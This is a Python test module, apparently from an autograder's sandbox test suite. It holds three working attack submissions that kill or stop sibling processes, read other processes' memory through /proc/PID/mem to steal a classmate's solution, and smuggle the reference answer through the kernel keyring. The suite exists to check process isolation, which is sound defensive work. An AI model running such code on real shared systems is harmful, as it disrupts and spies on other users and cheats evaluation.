"""Attacks on the other children of the run: the student graded beside this one (the
run uses two grading processes) and the next one.

Every child is a user of its own (docs/threat_model.md, "each child its own user"):
these would win if children shared one, e.g. all ran as ``nobody`` without namespaces.
``tests/autograder/isolation/test_sandbox_siblings.py`` shows the same with the seccomp filter turned off.
"""

from attacks import WRONG_SOFTMAX, Attack
from attacks.boundary import _SYSCALLS

_CORRECT_SOFTMAX = """
def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""

ATTACKS = [
    Attack("siblings_killed_for_two_seconds", "02_softmax", "softmax", """
import os, signal, time
_me = os.getpid()
_end = time.monotonic() + 2.0
while time.monotonic() < _end:             # long enough to meet the students graded beside
    try:
        os.kill(-1, signal.SIGKILL)         # every process this user may signal
    except OSError:
        pass
    for _entry in (os.listdir("/proc") if os.path.isdir("/proc") else ()):
        if _entry.isdigit() and int(_entry) != _me:
            try:
                os.kill(int(_entry), signal.SIGSTOP)
            except OSError:
                pass
    time.sleep(0.01)
""" + _CORRECT_SOFTMAX, "for two seconds, kills or stops every process it may signal: were "
        "children one user, the children of the students graded at the same time",
           expect="honest", answers="solutions", isolation=True),
    Attack("siblings_memory_read", "02_softmax", "softmax", """
import os, re

def _stolen():
    # another process's memory, through /proc/PID/mem, for a working softmax
    for entry in (os.listdir("/proc") if os.path.isdir("/proc") else ()):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            maps = open(f"/proc/{entry}/maps").read().splitlines()
            mem = open(f"/proc/{entry}/mem", "rb")
        except OSError:
            continue
        with mem:
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" not in line.split()[1] or end - start > 64 << 20:
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                for m in re.finditer(rb"def softmax\\(z, axis=-1\\):\\n[ -~\\n]{20,400}", data):
                    ns = {"np": np}
                    try:
                        exec(m.group().decode(), ns)
                        if abs(ns["softmax"](np.array([1.0, 2.0])).sum() - 1) < 1e-9:
                            return ns["softmax"]
                    except Exception:
                        continue
    return None

def softmax(z, axis=-1):
    other = _stolen()
    return other(z, axis) if other else np.full(np.shape(z), 0.5)
""", "reads the memory of every other process it can (/proc/PID/mem) for another "
       "student's working softmax and calls it", isolation=True),
    Attack("session_keyring_smuggling", "02_softmax", "softmax", _SYSCALLS + """
import inspect, zlib
_DESC = b"course-reference-session"
try:
    import helpers
    _src = inspect.getsource(helpers.reference)
except Exception:
    _src = ""
for _ring in (-3, -5):                       # session, user-session keyrings
    if _src and "hidden while" not in _src:  # where a reference were importable: store it
        _data = zlib.compress(_src.encode(), 9)
        _libc.syscall(SYS_ADD_KEY, b"user", _DESC, _data, len(_data), _ring)
_ns = {"__name__": "stolen"}
for _ring in (-3, -5):                       # the isolated run: read it back
    _key = _libc.syscall(SYS_KEYCTL, 10, _ring, b"user", _DESC, 0)    # KEYCTL_SEARCH
    if _key > 0:
        _buf = ctypes.create_string_buffer(1 << 16)
        _n = _libc.syscall(SYS_KEYCTL, 11, _key, _buf, len(_buf))     # KEYCTL_READ
        if _n > 0:
            exec(zlib.decompress(_buf.raw[:_n]).decode(), _ns)
            break
if "softmax" in _ns:
    softmax = _ns["softmax"]
else:
""" + "\n".join("    " + line for line in WRONG_SOFTMAX.strip().splitlines()) + "\n",
           "stores the reference in the session keyring it inherited (and the user-session "
           "one) during the notebook run, and reads it back in the isolated run"),
]
